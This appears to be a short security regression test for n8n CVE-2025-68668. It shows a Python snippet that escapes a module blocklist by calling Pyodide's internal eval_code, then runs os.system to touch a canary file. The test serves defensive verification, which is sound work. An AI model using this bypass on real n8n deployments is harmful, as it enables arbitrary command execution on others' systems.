# Goal: n8n CVE-2025-68668: a list of forbidden modules is passed by evaluating through Pyodide's own internals.
# cve: CVE-2025-68668
# canary: folder
# expect: ok error
from _pyodide._base import eval_code
eval_code(f"import os; os.system('touch {canary['folder']}/{canary['token']}')", {})
